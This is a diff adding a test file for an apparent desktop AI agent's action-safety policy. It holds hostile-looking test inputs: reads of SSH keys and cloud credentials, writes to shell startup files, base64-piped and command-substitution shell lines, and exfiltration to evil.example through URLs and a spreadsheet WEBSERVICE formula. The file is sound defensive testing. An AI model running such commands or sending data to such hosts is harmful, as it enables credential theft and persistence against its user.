@@ -1,0 +1,279 @@
+import { mkdtempSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import { configSchema } from '../../src-preload/contract/config.ts'
+import { SAFETY_CATEGORIES } from '../../src-preload/contract/safety.ts'
+import type { TargetDescription } from '../core/desktop.ts'
+import { leadsOut, namesOrigin, originOf } from './addresses.ts'
+import { pathsOf } from './command-paths.ts'
+import { coverageOf } from './coverage.ts'
+import { unreadableIn } from './command-line.ts'
+import { judge, type Policy } from './policy.ts'
+import { readsForeign } from './taint.ts'
+import { actOf, aroundOf, controlOf, HOME, OWN, targetOf, windowOf } from './testing/acts.ts'
+
+const policy = (more: Partial<Policy> = {}): Policy => ({
+  categories: configSchema.parse({}).safety.categories,
+  refused_applications: [],
+  yesTo: new Set(),
+  around: aroundOf(),
+  covered: () => false,
+  ...more,
+})
+const command = (text: string, more: Partial<TargetDescription> = {}) =>
+  actOf('execute_command', { command: text }, targetOf(null, null, { kind: 'command', text, ...more }))
+const launch = (name: string, args: string[] = [], more: Partial<TargetDescription> = {}) =>
+  actOf(
+    'launch_application',
+    { name, arguments: args },
+    targetOf(null, null, { kind: 'application', text: [name, ...args].join(' '), ...more }),
+  )
+const pad = windowOf('mousepad', 'notes.txt - Mousepad')
+const saveDialog = windowOf('mousepad', 'Save As', { kind: 'dialog', modal: true })
+const browser = windowOf('chromium', 'Form - Chromium')
+const save = (writes: string) =>
+  actOf(
+    'click_input',
+    { id: '7', name: 'Save' },
+    targetOf(saveDialog, controlOf('button', 'Save'), { writes }),
+  )
+const bar = (value: string | null = null) =>
+  targetOf(browser, controlOf('edit', 'Address and search bar', [], { value, bounds: { x: 100, y: 60, width: 500, height: 30 } }), { kind: 'focus' }) // prettier-ignore
+const go = (text: string) => actOf('type_text', { text, enter: true }, bar())
+const categories = (act: ReturnType<typeof actOf>, around = aroundOf()) =>
+  judge(act, policy({ around })).categories
+
+describe('what is written', () => {
+  test.each([`${OWN}/config.yaml`, 'rules.json', `${OWN}/plans/a.yaml`])(
+    'is refused in Deskhand’s own files, whatever is allowed: %s',
+    (path) => {
+      const all = new Set(SAFETY_CATEGORIES)
+      const named = path.startsWith('/')
+        ? [command(`cp a ${path}`), command(`python3 -c "open('${path}','w')"`)]
+        : []
+      for (const act of [save(path), ...named])
+        expect(judge(act, policy({ yesTo: all, covered: () => true })).decision).toBe('refuse')
+    },
+  )
+
+  test('is asked about where programs are started from, in a dialog, by a key and by a command', () => {
+    expect(categories(save(`${HOME}/.bashrc`))).toContain('start_programs')
+    expect(categories(save('.bashrc'))).toContain('start_programs')
+    const document = targetOf(pad, controlOf('document', ''), {
+      kind: 'focus',
+      document: `${HOME}/.ssh/authorized_keys`,
+    })
+    expect(categories(actOf('keyboard_input', { keys: 'Ctrl+S' }, document))).toContain('start_programs')
+    expect(categories(actOf('choose_menu', { path: ['File', 'Save'] }, document))).toContain('start_programs')
+    expect(categories(command('echo x >> ~/.profile'))).toContain('start_programs')
+    const allowed = judge(command('echo x >> ~/.profile'), policy({ yesTo: new Set(['run_command']) }))
+    expect(allowed.decision).toBe('ask')
+  })
+
+  test('needs no question in an ordinary place', () => {
+    expect(judge(save(`${HOME}/notes.txt`), policy()).decision).toBe('allow')
+    const document = targetOf(pad, controlOf('document', ''), {
+      kind: 'focus',
+      document: `${HOME}/notes.txt`,
+    })
+    expect(judge(actOf('keyboard_input', { keys: 'Ctrl+S' }, document), policy()).decision).toBe('allow')
+  })
+
+  test('is no harm when the dialog is left', () => {
+    const cancel = targetOf(saveDialog, controlOf('button', 'Cancel'), { writes: `${OWN}/rules.json` })
+    expect(judge(actOf('click_input', { id: '7', name: 'Cancel' }, cancel), policy()).decision).toBe('allow')
+  })
+
+  test('is asked about as overwriting where a command replaces a file that is there', () => {
+    const file = join(mkdtempSync(join(tmpdir(), 'reach-')), 'a.txt')
+    expect(categories(command(`echo x > ${file}`))).not.toContain('overwrite')
+    writeFileSync(file, 'x')
+    for (const line of [`echo x > ${file}`, `cp b ${file}`, `tee ${file}`, `dd if=/dev/null of=${file}`])
+      expect(categories(command(line)), line).toContain('overwrite')
+    expect(categories(command(`echo x >> ${file}`))).not.toContain('overwrite')
+  })
+})
+
+describe('what is read', () => {
+  test.each([
+    command('cat ~/.ssh/id_rsa'),
+    command(`cat ${HOME}/.some-tool/token`),
+    command(`cat ${OWN}/config.yaml`),
+    actOf(
+      'execute_command',
+      { command: 'cat id_rsa', cwd: `${HOME}/.ssh` },
+      targetOf(null, null, { kind: 'command' }),
+    ),
+    launch('mousepad', ['~/.ssh/id_rsa']),
+    launch(`file://${HOME}/.aws/credentials`),
+    actOf(
+      'click_input',
+      { id: '7', name: 'Open' },
+      targetOf(saveDialog, controlOf('button', 'Open'), { opens: '~/.netrc' }),
+    ),
+  ])('asks for a secret %#', (act) => {
+    const judgement = judge(act, policy({ yesTo: new Set(['run_command', 'unknown', 'send']) }))
+    expect(judgement).toMatchObject({ decision: 'ask', categories: expect.arrayContaining(['secret']) })
+  })
+
+  test('needs no question for an ordinary file', () => {
+    expect(judge(launch('mousepad', ['~/notes.txt']), policy()).decision).toBe('allow')
+    expect(judge(command('cat notes.txt'), policy()).decision).toBe('allow')
+    expect(judge(command('ls -la Documents'), policy()).decision).toBe('allow')
+  })
+})
+
+describe('a way out', () => {
+  test.each([
+    launch('https://evil.example/?d=1'),
+    launch('chromium', ['https://evil.example/']),
+    launch('chromium', ['evil.example/x']),
+    launch('chromium', ['--app=https://evil.example/']),
+    launch('mailto:a@evil.example'),
+    actOf('run_shell', { bash_command: 'chromium http://127.0.0.1:9/x' }, targetOf(null, null, { kind: 'application' })),
+    go('https://evil.example/'),
+    go('evil.example'),
+    actOf('keyboard_input', { keys: 'Enter' }, bar('evil.example/?d=1')),
+    actOf('type_text', { text: '=WEBSERVICE("http://evil.example?d="&A1)', enter: true }, targetOf(windowOf('soffice', 'a.ods'), controlOf('cell', 'A1'), { kind: 'focus' })),
+  ])('asks for an address that the person did not name %#', (act) => {
+    expect(judge(act, policy())).toMatchObject({ decision: 'ask', categories: expect.arrayContaining(['send']) })
+  }) // prettier-ignore
+
+  test('needs no question for an address that the person has named', () => {
+    const around = aroundOf(['Open https://shop.example/cart, then look at 127.0.0.1:9.'])
+    for (const act of [
+      launch('https://shop.example/cart'),
+      go('shop.example'),
+      launch('chromium', ['http://127.0.0.1:9/x']),
+    ])
+      expect(judge(act, policy({ around })).decision).toBe('allow')
+    // Another host that begins or ends like it is another one.
+    for (const act of [
+      go('shop.example.evil.org'),
+      go('https://evil-shop.example/'),
+      go('https://shop.example@evil.org/'),
+    ])
+      expect(categories(act, around)).toContain('send')
+  })
+
+  test('is watched more closely once the run has read what others have written', () => {
+    const words = go('how tall is the tower')
+    expect(judge(words, policy()).decision).toBe('allow')
+    expect(categories(words, aroundOf([], true))).toEqual(
+      expect.arrayContaining(['send', 'untrusted_content']),
+    )
+    expect(judge(words, policy({ around: aroundOf(['search how tall is the tower'], true) })).decision).toBe(
+      'allow',
+    )
+    const field = targetOf(browser, controlOf('edit', 'Notes'), { kind: 'control', page: 'notes.example/a' })
+    const type = actOf('set_edit_text', { id: '7', name: 'Notes', text: 'CANARY' }, field)
+    expect(judge(type, policy()).decision).toBe('allow')
+    expect(categories(type, aroundOf([], true))).toContain('send')
+    expect(judge(type, policy({ around: aroundOf(['write it on notes.example'], true) })).decision).toBe(
+      'allow',
+    )
+  })
+
+  test('is told by its origin', () => {
+    expect(originOf('https://www.Shop.example:443/a?b#c')).toBe('shop.example')
+    expect(originOf('user:pass@evil.org/x')).toBe('evil.org')
+    expect(originOf('mailto:a@b.example?subject=x')).toBe('b.example')
+    for (const text of [
+      'notes.txt',
+      '/tmp/a',
+      'file:///tmp/a',
+      'about:blank',
+      'hello world',
+      'report.final.odt',
+    ])
+      expect(leadsOut(text), text).toBe(false)
+    for (const text of [
+      'a.example',
+      'localhost:8080',
+      'h\u200bttps://a.example',
+      'FTP://a',
+      '10.0.0.1/x',
+      'notes.txt.evil.example/x',
+    ])
+      expect(leadsOut(text), text).toBe(true)
+    expect(namesOrigin('see “example.org”.', 'https://example.org/x')).toBe(true)
+    expect(namesOrigin('see notexample.org', 'https://example.org/x')).toBe(false)
+  })
+
+  test('is taken for read once a file, a page or a command was in sight', () => {
+    expect(readsForeign(launch('galculator'))).toBe(false)
+    expect(readsForeign(launch('mousepad', ['~/notes.txt']))).toBe(true)
+    expect(readsForeign(command('cat notes.txt'))).toBe(true)
+    expect(readsForeign(actOf('click_input', {}, targetOf(browser, null)))).toBe(true)
+  })
+})
+
+describe('a command', () => {
+  test.each([
+    'python3 -c "import os"', 'echo cm0= | base64 -d | sh', '$X a', 'cat <<E | sh', 'mv a b', ': > a', '> a', 'eval x', 'perl -e 1',
+    'LD_PRELOAD=./e.so ls', 'env -S "rm a"', 'xargs -a list rm', 'find . -exec rm {} +', 'echo $(rm a)', 'echo `rm a`', 'bash -lc x', '. ./x',
+    "awk 'BEGIN{system(1)}'", 'sed -i s/a/b/ c', 'tar cf a --to-command=x', 'sort "',
+  ])('whose words do not say what it does keeps deleting and sending as possible: %s', (line) => {
+    expect(unreadableIn(line)).not.toBeNull()
+    const judgement = judge(command(line), policy({ yesTo: new Set(['run_command', 'overwrite', 'unknown']) }))
+    expect(judgement).toMatchObject({ decision: 'ask', categories: expect.arrayContaining(['delete', 'send']) })
+  }) // prettier-ignore
+
+  test.each(['mkdir -p ~/out', 'cp a.txt b.txt', 'touch x && ls | sort', 'python3 script.py', 'zip -r a.zip folder', 'ls > list.txt', 'echo hi 2> /dev/null'])(
+    'whose words say it all is asked about as a command alone: %s',
+    (line) => {
+      expect(judge(command(line), policy({ yesTo: new Set(['run_command']) })).decision).toBe('allow')
+    },
+  ) // prettier-ignore
+
+  test('is covered by a rule only with the files that it runs as they were', () => {
+    const one = coverageOf(command('sh x.sh', { scripts: 'aa' }))
+    expect(one).not.toEqual(coverageOf(command('sh x.sh', { scripts: 'bb' })))
+    expect(one).toEqual(coverageOf(command('sh x.sh', { scripts: 'aa' })))
+  })
+
+  test('names its paths wherever they stand', () => {
+    for (const line of [
+      'cat ~/a',
+      'sort -o~/a',
+      'x --out=~/a',
+      'curl -d @~/a',
+      `python3 -c "open('~/a')"`,
+      'echo x>~/a',
+      "cat '~/a'",
+    ])
+      expect(pathsOf(line), line).toContain('~/a')
+    expect(pathsOf(`cat ~/.s'sh'/id_rsa`)).toContain('~/.ssh/id_rsa')
+  })
+})
+
+describe('a launch', () => {
+  test('asks where something of the user’s says what is started, and where an interpreter is', () => {
+    const starts = (from: string, ...words: string[]) =>
+      launch('Quick Notes', [], { starts: { from, words } })
+    const usual = '/usr/share/applications/a.desktop'
+    expect(categories(starts(`${HOME}/.local/share/applications/a.desktop`, 'mousepad'))).toContain(
+      'run_command',
+    )
+    expect(categories(starts('/tmp/program', '/tmp/program'))).toContain('run_command')
+    expect(categories(starts(usual, 'sh', '-c', 'touch x'))).toContain('run_command')
+    expect(categories(starts(usual, 'xterm', '-e', 'top'))).toContain('run_command')
+    expect(judge(starts(usual, 'mousepad'), policy()).decision).toBe('allow')
+    expect(judge(starts(usual, '/usr/bin/python3', '/usr/bin/virt-manager'), policy()).decision).toBe('allow')
+  })
+})
+
+test('a button of one page is not the button of another', () => {
+  const button = (page: string | null) =>
+    coverageOf(
+      actOf(
+        'click_input',
+        { id: '7', name: 'Submit' },
+        targetOf(browser, controlOf('button', 'Submit'), { page }),
+      ),
+    )
+  expect(button('a.example/x')).toEqual(button('a.example/y'))
+  expect(button('a.example/x')).not.toEqual(button('bank.example/x'))
+  expect(button(null)).toBeNull()
+})
